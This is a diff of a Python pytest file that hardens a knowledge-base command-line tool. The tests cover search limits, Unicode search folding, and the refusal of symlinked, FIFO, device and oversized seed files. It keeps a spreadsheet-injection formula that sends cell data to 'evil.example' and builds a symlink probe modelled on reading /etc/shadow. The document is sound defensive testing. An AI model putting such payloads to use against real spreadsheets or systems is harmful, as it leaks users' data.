@@ -27,7 +27,7 @@ import pytest
 
 from kb.domain.schemas import KINDS
 from scripts.synthetic import generate
-from tests.conftest import snapshot
+from tests.conftest import SEEDS, snapshot
 from tests.test_robustness import new_database, run_kb, write_report
 
 FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Click for details")'
@@ -190,6 +190,222 @@ def test_billion_laughs_is_refused_quickly(db: str, tmp_path: Path) -> None:
         signal.signal(signal.SIGALRM, previous)
     assert code == 2 and "[yaml-alias]" in err and str(version) in err, err
     assert snapshot(db) == before
+
+
+# --- search -----------------------------------------------------------------------
+
+
+def test_a_long_search_is_refused_with_the_flag_named(db: str) -> None:
+    before = snapshot(db)
+    code, out, err = run_kb("facts", "--search", "x" * 100_000, db=db)
+    assert code == 2 and out == "", err
+    assert err.startswith("kb: --search is 100,000 characters long; at most 1,000"), err
+    assert snapshot(db) == before
+    code, _, err = run_kb("facts", "--search", "y" * 1000, db=db)  # at the limit: searched
+    assert code == 0, err
+
+
+UNICODE_TEXT = """\
+Unicode report
+Updated May 5, 2025
+
+The Mérida Initiative met in İstanbul on the Οδός Ερμού.
+Officials of the ÉTAT and the Straße office attended.
+"""
+UNICODE_YAML = """\
+report: UN1
+version: 2025-05-05
+title: Unicode report
+facts:
+  - id: istanbul-meeting
+    kind: event
+    quote: The Mérida Initiative met in İstanbul on the Οδός Ερμού.
+    date: 2025-05
+    summary: A meeting in İstanbul on the ΟΔΟΣ ΕΡΜΟΥ.
+  - id: etat-officials
+    kind: event
+    quote: Officials of the ÉTAT and the Straße office attended.
+    date: 2025-05
+    summary: Officials of the État attended.
+"""
+NEEDLES = ["MÉRIDA", "mérida", "MéRiDa", "ΟΔΌΣ", "οδός", "İSTANBUL", "istanbul", "état",
+           "ÉTAT", "STRASSE", "straße", "ΕΡΜΟΥ", "ermou", "Ö"]
+
+
+def test_case_insensitive_search_agrees_on_both_backends(tmp_path: Path) -> None:
+    """Non-ASCII letters fold alike on SQLite and PostgreSQL (before: --search MÉRIDA found
+    9 facts of the bundled seeds on PostgreSQL and none on SQLite)."""
+    folder = tmp_path / "seeds" / "UN1"
+    folder.mkdir(parents=True)
+    (folder / "report.yaml").write_text(
+        "number: UN1\ntype: Insight\nauthors:\n  - name: Ana Ñúñez\n", encoding="utf-8"
+    )
+    (folder / "2025-05-05.txt").write_text(UNICODE_TEXT, encoding="utf-8")
+    (folder / "2025-05-05.yaml").write_text(UNICODE_YAML, encoding="utf-8")
+    found: dict[str, dict[str, list[str]]] = {}
+    for backend in ("sqlite", "postgresql"):
+        for url in new_database(backend, tmp_path / backend):
+            for path in (str(SEEDS / "reports" / "IF10578"), str(folder)):
+                code, _, err = run_kb("load", path, db=url)
+                assert code == 0, err
+            for needle in NEEDLES:
+                code, out, err = run_kb("facts", "--search", needle, "--format", "json", db=url)
+                assert code == 0, err
+                found.setdefault(needle, {})[backend] = sorted(r["id"] for r in json.loads(out))
+    for needle, by_backend in found.items():
+        assert by_backend["sqlite"] == by_backend["postgresql"], (needle, by_backend)
+    assert len(found["MÉRIDA"]["sqlite"]) >= 10  # the seeds' 9 and UN1's meeting
+    assert found["MÉRIDA"] == found["mérida"] == found["MéRiDa"]
+    assert found["İSTANBUL"]["sqlite"] == found["istanbul"]["sqlite"] == ["istanbul-meeting"]
+    assert found["ÉTAT"]["sqlite"] == found["état"]["sqlite"] == ["etat-officials"]
+    assert found["ΕΡΜΟΥ"]["sqlite"] == ["istanbul-meeting"]
+    assert found["ermou"]["sqlite"] == found["Ö"]["sqlite"] == []
+
+
+# --- what is read from a seed folder ---------------------------------------------------
+
+
+@contextmanager
+def deadline(seconds: int, what: str) -> Iterator[None]:
+    """Fail (instead of hanging the suite) if the block takes longer than ``seconds``."""
+
+    def too_slow(*_: Any) -> None:
+        raise TimeoutError(what)
+
+    previous = signal.signal(signal.SIGALRM, too_slow)
+    signal.alarm(seconds)
+    try:
+        yield
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+
+
+def _only_facts_empty(folder: Path) -> Path:
+    """The version file with no facts: whatever its text holds, it would load."""
+    version = folder / "2024-10-01.yaml"
+    head = version.read_text(encoding="utf-8").split("facts:")[0]
+    version.write_text(head + "facts: []\n", encoding="utf-8")
+    return version
+
+
+def _load_is_refused(db: str, folder: Path, file: Path, code: str) -> str:
+    before = snapshot(db)
+    with deadline(30, "the load hung"):
+        status, out, err = run_kb("load", str(folder), "--replace", db=db)
+    assert status == 2, err
+    assert out == "" and "Traceback" not in err, err
+    line = next((line for line in err.splitlines() if f"[{code}]" in line), err)
+    assert str(file) in line, err
+    assert snapshot(db) == before
+    return err
+
+
+def test_a_text_linked_outside_the_folder_is_refused(db: str, tmp_path: Path) -> None:
+    """A .txt linked to a file outside the folder (/etc/shadow in the probe) is not read:
+    with `facts: []` nothing else would stop the load from storing that file."""
+    secret = tmp_path / "secret"
+    secret.write_text("root:$6$not-for-the-database:19000:0:99999:7:::\n", encoding="utf-8")
+    folder = write_report(tmp_path / "seeds")
+    _only_facts_empty(folder)
+    text = folder / "2024-10-01.txt"
+    text.unlink()
+    text.symlink_to(secret)
+    err = _load_is_refused(db, folder, text, "outside-folder")
+    assert "not-for-the-database" not in err
+    code, out, _ = run_kb("facts", "--search", "not-for-the-database", "--format", "json", db=db)
+    assert code == 0 and json.loads(out) == []
+
+
+def test_links_inside_the_folder_being_loaded_are_followed(db: str, tmp_path: Path) -> None:
+    """A link is judged against the folder being loaded: a text shared from a sibling
+    folder loads with the parent folder and is refused when the report folder alone is."""
+    root = tmp_path / "seeds"
+    folder = write_report(root)
+    shared = root / "shared"
+    shared.mkdir()
+    text = folder / "2024-10-01.txt"
+    text.rename(shared / "TS100.txt")
+    text.symlink_to(Path("..") / "shared" / "TS100.txt")
+    _load_is_refused(db, folder, text, "outside-folder")
+    before = snapshot(db)
+    code, _, err = run_kb("load", str(root), db=db)
+    assert code == 0 and "nothing to do" in err, err  # the same content as the module's TS100
+    assert snapshot(db) == before
+
+
+@pytest.mark.parametrize("name", ["2025-01-01.yaml", "report.yaml"])
+def test_a_fifo_is_refused_not_waited_on(db: str, tmp_path: Path, name: str) -> None:
+    folder = write_report(tmp_path / "seeds")
+    fifo = folder / name
+    fifo.unlink(missing_ok=True)
+    os.mkfifo(fifo)
+    err = _load_is_refused(db, folder, fifo, "not-a-regular-file")
+    assert "FIFO" in err
+
+
+def test_a_link_to_a_device_is_refused(db: str, tmp_path: Path) -> None:
+    folder = write_report(tmp_path / "seeds")
+    zero = folder / "2025-01-01.yaml"
+    zero.symlink_to("/dev/zero")
+    with limited_memory(1 << 30):  # reading /dev/zero would fill it
+        _load_is_refused(db, folder, zero, "outside-folder")
+
+
+@pytest.mark.parametrize("name", ["2024-10-01.txt", "2024-10-01.yaml", "report.yaml"])
+def test_files_beyond_the_size_limit_are_refused(db: str, tmp_path: Path, name: str) -> None:
+    from kb.ingest.seed_files import MAX_FILE_BYTES
+
+    folder = write_report(tmp_path / "seeds")
+    big = folder / name
+    original = big.read_bytes()
+    # Valid content padded past the limit with a YAML comment (or more text): only the
+    # size can refuse it.
+    pad = b"#" if name.endswith(".yaml") else b" "
+    big.write_bytes(original + b"\n" + pad * (MAX_FILE_BYTES - len(original)))
+    err = _load_is_refused(db, folder, big, "too-large")
+    assert "20 MB" in err
+    # Sparse: 4 GB as far as the file system says, refused before a byte is read.
+    with big.open("r+b") as file:
+        file.truncate(4 << 30)
+    with limited_memory(1 << 30):
+        _load_is_refused(db, folder, big, "too-large")
+
+
+def test_a_file_at_the_size_limit_is_read(tmp_path: Path) -> None:
+    """Exactly MAX_FILE_BYTES is allowed, and memory stays in proportion to it."""
+    from kb.ingest.seed_files import MAX_FILE_BYTES
+
+    folder = write_report(tmp_path / "seeds")
+    text = folder / "2024-10-01.txt"
+    original = text.read_bytes()
+    line = b"Filler words of a long report, repeated to reach the limit.\n"
+    filler = line * ((MAX_FILE_BYTES - len(original)) // len(line))
+    text.write_bytes(original + filler + b" " * (MAX_FILE_BYTES - len(original) - len(filler)))
+    assert text.stat().st_size == MAX_FILE_BYTES
+    from kb.ingest.seed_folders import read_path
+
+    with limited_memory(600 << 20):  # 30 times the file: a load of it took 150 MB in all
+        reports, problems = read_path(folder)
+    assert problems == [] and len(reports[0].versions[0].text.encode()) == MAX_FILE_BYTES
+
+
+@contextmanager
+def limited_memory(extra: int) -> Iterator[None]:
+    """The address space may grow by at most ``extra`` bytes inside the block: a reader
+    that reads a device or a sparse file to its end fails with MemoryError."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
+    used = _address_space()
+    resource.setrlimit(resource.RLIMIT_AS, (used + extra, hard))
+    try:
+        yield
+    finally:
+        resource.setrlimit(resource.RLIMIT_AS, (soft, hard))
+
+
+def _address_space() -> int:
+    with open("/proc/self/statm", encoding="ascii") as statm:
+        return int(statm.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
 
 
 # --- where exports write ----------------------------------------------------------
@@ -394,3 +610,25 @@ def test_no_stray_files_in_the_working_directory() -> None:
     """Nothing above wrote into the current directory (exports went where they were told)."""
     stray = [p for p in os.listdir(".") if p.endswith((".csv", ".xlsx", ".tmp"))]
     assert not stray, stray
+
+
+def test_verify_reads_seed_files_the_same_way(seeded_url: str, seed_copy, kb) -> None:  # type: ignore[no-untyped-def]
+    """`kb verify --seeds` reads through the same guard: an annotated comparison that is a
+    FIFO and a version text linked outside the folder are named, not waited on or read."""
+    folder = seed_copy("IF10578")
+    annotated = next(folder.glob("compare-*.annotated.txt"))
+    annotated.unlink()
+    os.mkfifo(annotated)
+    text = folder / "2025-08-14.txt"
+    outside = folder.parent.parent / "outside.txt"
+    text.rename(outside)
+    text.symlink_to(outside)
+    before = snapshot(seeded_url)
+    with deadline(30, "verify hung"):
+        result = kb("verify", "--seeds", str(folder.parent), "--format", "csv", db=seeded_url)
+    assert result.code == 2, result.err
+    rows = list(csv.DictReader(io.StringIO(result.out)))
+    found = {(r["code"], r["file"]) for r in rows}
+    assert ("not-a-regular-file", str(annotated)) in found, rows
+    assert ("outside-folder", str(text)) in found, rows
+    assert snapshot(seeded_url) == before
